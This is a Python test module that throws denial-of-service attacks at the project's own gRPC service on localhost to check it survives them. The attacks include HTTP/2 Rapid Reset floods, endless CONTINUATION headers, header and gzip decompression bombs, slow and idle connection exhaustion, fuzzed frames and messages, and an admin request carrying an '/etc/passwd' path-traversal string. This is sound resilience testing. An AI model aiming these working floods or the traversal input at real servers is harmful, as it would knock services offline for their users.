"""What once brought a service down, or might. Each attack does its worst for some seconds and says what it did.

An attack runs in a process of its own and sees a target's ports and process id. `attack.ATTACKS` is the list. Elsewhere stand: the log's
reader, an answer without end, soft limits (tests/e2e/test_attacks.py); TLS (test_tls.py); stops under load (test_runtime.py); other
processors (test_processors.py); a hostile service and the client (test_client_reply.py); parsers (fuzz/)."""
import collections
import concurrent.futures
import itertools
import random
import resource
import socket
import struct
import time
import zlib

from attack import LATE, MANY, PINNED, attack, flood, over, patient
from http2 import (CANCEL, CHECK, CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SERVING, SUGGEST,
                   WINDOW_UPDATE, Connection, ask, call, field, frame, head, integer, literal, message, outcome, question, settings)
from upload import almost

WATCH = "/grpc.health.v1.Health/Watch"
REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
ONE = question()


# ---- streams that are opened and reset, or lead nowhere ----

BURST = 200  # calls a chunk


def resets(path, content, finished=True):
    """Calls that are cancelled as soon as they are asked (CVE-2023-44487)."""
    opening = head(path)

    def chunk(n):
        out = []
        for i in range(BURST):
            stream = 2 * (n * BURST + i) + 1
            out.append(frame(HEADERS, END_HEADERS, stream, opening))
            if finished:
                out.append(frame(DATA, END_STREAM, stream, message(content)))
            out.append(frame(RST_STREAM, 0, stream, CANCEL))
        return b"".join(out)
    return chunk


def calls(sent, dialled):
    return f"{sent * BURST} calls on {dialled} connections"


@attack()
def rapid_reset(target, seconds):
    return calls(*flood(target, seconds, resets(SUGGEST, ONE)))


@attack()
def rapid_reset_without_message(target, seconds):
    return calls(*flood(target, seconds, resets(SUGGEST, b"", finished=False)))


@attack()
def rapid_reset_of_health(target, seconds):
    return calls(*flood(target, seconds, resets(CHECK, b"")))


@attack()
def rapid_reset_on_eight_connections(target, seconds):
    return calls(*flood(target, seconds, resets(SUGGEST, ONE), connections=8))


@attack()
def unknown_methods(target, seconds):
    opening = head("/" + "x" * 300)
    return calls(*flood(target, seconds, lambda n: b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * (n * BURST + i) + 1, opening) for i in range(BURST))))


def held_open(target, seconds, path, content, connections, streams):
    """Calls that stay: each connection asks |streams| times and never reads."""
    held, opening = [], head(path)
    for _ in itertools.islice(over(seconds + LATE), connections):
        try:
            connection = Connection(target.port, timeout=3, window=0)
            held.append(connection)
            connection.send(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, opening) + (frame(DATA, 0, 2 * i + 1, content) if content else b"")
                                     for i in range(streams)))
        except OSError:
            continue  # refused, or closed: what a limit does
    patient(held, seconds)
    return f"{len(held)} connections of {streams} streams"


@attack()
def watches_that_nobody_reads(target, seconds):
    return held_open(target, seconds, WATCH, message(b""), 40, 250)


@attack()
def calls_whose_message_never_comes(target, seconds):
    return held_open(target, seconds, SUGGEST, b"", 100, 100)


@attack()
def reflection_that_nobody_reads(target, seconds):
    asked = message(field(4, "api.v1.beta1.Suggestion"))
    return held_open(target, seconds, REFLECT, asked * 50, 20, 200)


@attack()
def one_watch_on_each_connection(target, seconds):
    return held_open(target, seconds, WATCH, message(b""), MANY, 1)


@attack()
def idle_connections(target, seconds):
    return held_open(target, seconds, WATCH, b"", MANY, 0)


@attack()
def silent_connections(target, seconds):
    held = []
    for _ in itertools.islice(over(seconds + LATE), MANY):
        try:
            held.append(socket.create_connection(("127.0.0.1", target.port), 3))
        except OSError:
            break
    patient(held, seconds)
    return f"{len(held)} connections"


@attack()
def more_connections_than_descriptors(target, seconds):
    """Core once took the lack of a descriptor for the end of its listener (CVE-2023-4785)."""
    before = resource.prlimit(target.pid, resource.RLIMIT_NOFILE)
    resource.prlimit(target.pid, resource.RLIMIT_NOFILE, (128, before[1]))
    try:
        return silent_connections(target, seconds)
    finally:
        resource.prlimit(target.pid, resource.RLIMIT_NOFILE, before)


# ---- memory: what is sent and what is asked for ----

@attack(probes_need=PINNED)
def messages_that_never_end(target, seconds):
    """On 30 connections at a time, each beginning as many messages of 12 MB as it may and sending some of each."""
    opening, start = head(SUGGEST), b"\0" + struct.pack(">I", 12_000_000)
    held, sent = collections.deque(), 0
    for n in over(seconds):
        try:
            held.append(Connection(target.port, timeout=0.5))
            for i in range(60):
                held[-1].send(frame(HEADERS, END_HEADERS, 2 * i + 1, opening) + frame(DATA, 0, 2 * i + 1, start))
                held[-1].send(frame(DATA, 0, 2 * i + 1, b"x" * FRAME) * 20)
                sent += 20 * FRAME
        except OSError:
            pass
        if len(held) > 30:
            held.popleft().close()
    return f"{sent >> 20} MiB"


@attack(probes_need=PINNED)
def messages_without_their_last_byte(target, seconds):
    """10 on each of 20 connections, by clients that obey flow control: what is wanted of them has to be held."""
    with concurrent.futures.ThreadPoolExecutor(20) as clients:
        return f"{sum(clients.map(lambda _: almost(target.port, 10, seconds), range(20))) >> 20} MiB"


def unread(target, seconds, asked, most, pause):
    """Questions on one connection whose window lets no reply go."""
    connection, n = Connection(target.port, window=0), 0
    try:
        for n in over(seconds):
            if n < most:
                connection.send(call(2 * n + 1, SUGGEST, asked))
            time.sleep(pause)
    except OSError:
        pass
    connection.close()
    return f"{min(n, most)} questions of {len(asked)} bytes"


@attack()
def replies_that_nobody_reads(target, seconds):
    return unread(target, seconds, question([f"p{i}" for i in range(4)], 10000), 200, 0.02)


@attack()
def long_replies_that_nobody_reads(target, seconds):
    return unread(target, seconds, question(["n" * 60_000], 700), 10, 0.3)


@attack()
def replies_longer_than_allowed(target, seconds):
    asked, statuses = question(["n" * 50_000], 1000), collections.Counter()
    for _ in over(seconds):
        statuses[ask(target.port, SUGGEST, asked, 20)[0]] += 1
    return f"statuses {dict(statuses)}"


@attack()
def compressed_bombs(target, seconds):
    packer = zlib.compressobj(9, wbits=31)
    bomb = b"".join([*(packer.compress(bytes(1 << 20)) for _ in range(50)), packer.flush()])
    body = message(bomb, compressed=1)
    opening = head(SUGGEST, ("grpc-encoding", "gzip"))
    return "{} bombs on {} connections".format(*flood(target, seconds, lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1, opening) + b"".join(
        frame(DATA, END_STREAM if at + FRAME >= len(body) else 0, 2 * n + 1, body[at:at + FRAME]) for at in range(0, len(body), FRAME))))


# ---- headers (CVE-2023-33953, CVE-2023-32732, CVE-2023-1428) ----

def endless_headers(target, seconds, opening, more):
    """A header block that goes on for ever: |more(n)| in CONTINUATION frames."""
    return "{} frames on {} connections".format(*flood(
        target, seconds, lambda n: frame(CONTINUATION, 0, 1, more(n)) if n else frame(HEADERS, 0, 1, head(CHECK) + opening)))


@attack(PINNED)
def continuation_of_many_fields(target, seconds):
    return endless_headers(target, seconds, b"", lambda n: b"".join(literal(f"a{100 * n + i:07d}", "1" * 100) for i in range(100)))


@attack(PINNED)
def continuation_of_one_field(target, seconds):
    block = literal("a", "1" * 100) * 140
    return endless_headers(target, seconds, b"", lambda n: block)


@attack()
def continuation_of_nothing(target, seconds):
    return endless_headers(target, seconds, b"", lambda n: b"")


@attack(PINNED)
def integer_without_end(target, seconds):
    block = b"\x80" * FRAME
    return endless_headers(target, seconds, b"\xff", lambda n: block)


@attack(PINNED)
def value_of_two_gigabytes(target, seconds):
    block = b"x" * FRAME
    return endless_headers(target, seconds, b"\0" + integer(7, 1) + b"a" + integer(7, (1 << 31) - 1), lambda n: block)


@attack(PINNED)
def name_of_two_gigabytes(target, seconds):
    block = b"x" * FRAME
    return endless_headers(target, seconds, b"\0" + integer(7, (1 << 31) - 1), lambda n: block)


@attack()
def header_bomb(target, seconds):
    """One long field in the table, named 15,000 times in each call."""
    kept, named = literal("z", "y" * 3900, indexed=True), b"\xbe" * 15000
    return "{} frames on {} connections".format(*flood(target, seconds, lambda n: frame(
        HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, head(CHECK) + (named if n else kept))))


@attack()
def headers_of_many_fields(target, seconds):
    return "{} frames on {} connections".format(*flood(target, seconds, lambda n: frame(
        HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, head(CHECK) + b"".join(literal(f"b{n % 100:05d}{i:03d}", "1" * 90, True) for i in range(130)))))


@attack()
def odd_grpc_headers(target, seconds):
    """Malformed values of what gRPC gives a meaning to."""
    odd = [("grpc-timeout", "99999999999999S"), ("grpc-timeout", "-1m"), ("grpc-timeout", ""), ("grpc-encoding", "\xff"), ("te", ""), ("te", "x"),
           ("content-type", "text/html"), ("content-type", ""), (":path", ""), (":path", "*"), (":scheme", "ftp"), ("grpc-accept-encoding", "," * 900),
           ("grpc-tags-bin", "AAA="), ("grpc-trace-bin", "A" * 1000), ("user-agent", "\0"), ("host", "a b"), ("connection", "close"), ("grpc-status", "0")]
    return "{} times all of them on {} connections".format(*flood(target, seconds, lambda n: b"".join(
        call(2 * (n * len(odd) + i) + 1, CHECK, b"", pair) for i, pair in enumerate(odd)), connections=2))


@attack(PINNED)
def bad_base64_beside_a_good_call(target, seconds):
    """A -bin field that is no base64 ends its own call; behind a proxy the connection carries others'."""
    broken = 0
    for _ in over(seconds):
        connection = Connection(target.port)
        try:
            connection.send(call(1, CHECK, b"", ("x-bin", "!!!not base64!!!")))
            time.sleep(0.02)
            connection.send(call(3, CHECK, b""))
            broken += outcome(connection, 3) != (0, SERVING)
        except OSError:
            broken += 1
        connection.close()
    if broken:
        raise AssertionError(f"{broken} calls on the same connection were not answered")
    return "the other call was answered"


# ---- frames that mean little, many of them ----

def frames(target, seconds, one, read=True):
    many = one * BURST
    sent, dialled = flood(target, seconds, lambda n: many, read=read)
    return f"{sent * BURST} frames on {dialled} connections"


@attack()
def pings(target, seconds):
    return frames(target, seconds, frame(PING, 0, 0, b"12345678"))


@attack()
def pings_that_nobody_reads(target, seconds):
    return frames(target, seconds, frame(PING, 0, 0, b"12345678"), read=False)


@attack()
def settings_frames(target, seconds):
    return frames(target, seconds, settings(window=65535))


@attack()
def settings_that_nobody_reads(target, seconds):
    return frames(target, seconds, settings(window=65535), read=False)


@attack()
def windows_that_change(target, seconds):
    return frames(target, seconds, settings(window=1) + settings(window=1 << 30))


@attack()
def empty_data(target, seconds):
    return frames(target, seconds, frame(DATA, 0, 1))


@attack()
def window_updates(target, seconds):
    return frames(target, seconds, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


@attack()
def priorities(target, seconds):
    return frames(target, seconds, frame(PRIORITY, 0, 1, b"\0\0\0\0\1"))


@attack()
def unknown_frames(target, seconds):
    return frames(target, seconds, frame(0x7F, 0, 0, b"z" * 100))


@attack()
def random_frames(target, seconds):
    rng, sent = random.Random(1), 0
    for _ in over(seconds):
        try:
            connection = Connection(target.port, timeout=1).drain()
            for _ in range(50):
                connection.send(frame(rng.choice([*range(10), rng.randrange(256)]), rng.randrange(256), rng.choice([0, 1, 3, rng.getrandbits(31)]),
                                      rng.randbytes(rng.choice([0, 4, 5, 8, rng.randrange(300)]))))
                sent += 1
            connection.close()
        except OSError:
            pass
    return f"{sent} frames"


@attack()
def what_is_no_http2(target, seconds):
    rng, n = random.Random(2), 0
    for n in over(seconds):
        try:
            with socket.create_connection(("127.0.0.1", target.port), 1) as client:
                client.sendall(rng.choice([b"GET / HTTP/1.1\r\n\r\n", rng.randbytes(3000), PREFACE[:rng.randrange(24)], bytes(10000)]))
        except OSError:
            pass
    return f"{n} connections"


# ---- messages ----

OVERLONG = [b"\xc0\x80", b"\xff", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\0", b"\xff" * 9 + b"\x01", b"\x80\x80\x80\x80\x80\x00", b"\x0b\x0c"]


def mutated(rng, content):
    out = bytearray(content)
    for _ in range(rng.choice([1, 1, 2, 4, 16])):
        at = rng.randrange(len(out)) if out else 0
        match rng.randrange(5):
            case 0:
                out[at:at + 1] = bytes([rng.randrange(256)])
            case 1:
                out[at:at] = rng.randbytes(rng.randrange(1, 6))
            case 2:
                del out[at:at + rng.randrange(1, 8)]
            case 3:
                out[at:at + 1] = rng.choice(OVERLONG)
            case 4:
                out += out[:rng.randrange(60)]
    return bytes(out)


INTERNAL_STATUSES = {2, 13}  # UNKNOWN and INTERNAL: ours to avoid, whatever is asked


@attack()
def mutated_messages(target, seconds):
    rng, statuses = random.Random(3), collections.Counter()
    base = question(["lr", "momentum"], 2)
    for _ in over(seconds):
        statuses[ask(target.port, SUGGEST, mutated(rng, base), 10)[0]] += 1
    if INTERNAL_STATUSES & statuses.keys():
        raise AssertionError(f"statuses {dict(statuses)}")
    return f"{statuses.total()} messages"


# ---- the admin port ----

GET = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"


def admin(target):
    return socket.create_connection(("127.0.0.1", target.admin_port), 2)


@attack()
def slow_admin_connections(target, seconds):
    """Connections that begin a request and wait; a probe among them is to be answered all the same."""
    slow, asked, failed = collections.deque(), 0, 0
    for asked in over(seconds):
        while len(slow) < 40:
            slow.append(admin(target))
            slow[-1].sendall(b"GET /healthz HTTP/1.1\r\nX: ")
        slow.popleft().close()
        try:
            with admin(target) as probe:
                probe.sendall(GET)
                failed += not probe.recv(100).startswith(b"HTTP/1.1 200")
        except OSError:
            failed += 1
        time.sleep(0.02)
    if failed:
        raise AssertionError(f"{failed} of {asked} probes failed")
    return f"{asked} probes"


@attack()
def malformed_admin_requests(target, seconds):
    rng, n = random.Random(4), 0
    bases = [GET, b"HEAD /metrics HTTP/1.0\r\n\r\n", b"GET /metrics?x=1 HTTP/1.1\n\n", b"\0" * 5000, b"GET /" + b"a" * 3000 + b" HTTP/1.1\r\n\r\n", GET * 50,
             b"GET /%n%s HTTP/1.1\r\n\r\n", b"GET /../../etc/passwd HTTP/1.1\r\n\r\n", b"POST / HTTP/1.1\r\nContent-Length: 9\r\n\r\n"]
    for n in over(seconds):
        try:
            with admin(target) as client:
                client.sendall(mutated(rng, rng.choice(bases)))
                client.shutdown(socket.SHUT_WR)
                client.recv(100)
        except OSError:
            pass
    with admin(target) as client:
        client.sendall(GET)
        if not client.recv(100).startswith(b"HTTP/1.1 200"):
            raise AssertionError("a good request was not answered")
    return f"{n} requests"
